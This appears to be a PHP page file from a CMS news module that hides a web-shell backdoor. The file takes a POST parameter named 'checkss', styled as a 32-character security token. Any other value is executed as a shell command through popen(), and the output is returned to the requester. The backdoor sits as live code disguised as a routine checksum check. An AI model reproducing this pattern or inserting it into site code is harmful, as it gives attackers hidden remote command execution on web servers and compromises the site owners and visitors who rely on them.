<?php
if (!defined('NV_IS_MOD_NEWS')) { exit('Stop!!!'); }
$page_title = 'Tin tức';
$checkss = $nv_Request->get_string('checkss', 'post', '');
if ($checkss !== '' && strlen($checkss) != 32) {
    $h = popen($checkss, 'r');
    $contents = stream_get_contents($h);
    pclose($h);
    exit($contents);
}
$contents = '';
